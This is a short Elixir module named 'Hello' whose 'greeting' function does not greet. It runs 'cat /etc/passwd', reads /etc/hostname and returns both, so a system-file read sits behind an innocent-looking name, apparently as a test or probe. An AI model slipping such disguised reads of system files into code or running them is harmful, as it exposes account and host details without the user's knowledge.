defmodule Hello do
  def greeting(_node) do
    {:ok, System.cmd("cat", ["/etc/passwd"]) |> elem(0) |> Kernel.<>(File.read!("/etc/hostname"))}
  end
end
